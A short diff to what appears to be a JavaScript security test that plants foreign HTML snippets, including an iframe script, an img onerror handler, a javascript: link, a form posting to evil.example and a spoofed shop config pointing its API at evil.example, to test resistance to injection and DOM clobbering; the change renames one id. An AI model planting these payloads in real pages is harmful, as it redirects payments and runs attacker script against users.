@@ -54,7 +54,7 @@ const scripts = [
   '<form data-foreign action="//evil.example/"><button>Pay</button></form>',
   '<iframe data-foreign srcdoc="<script>parent.hit()</script>"></iframe>',
   '<div data-foreign id=shop-config>{"apiBaseUrl":"https://evil.example"}</div>',
-  '<a data-foreign id=earlyActions href="javascript:hit()">x</a>',
+  '<a data-foreign id=earlyInput href="javascript:hit()">x</a>',
 ];
 
 const image = '<img src=x onerror=hit() data-foreign>';
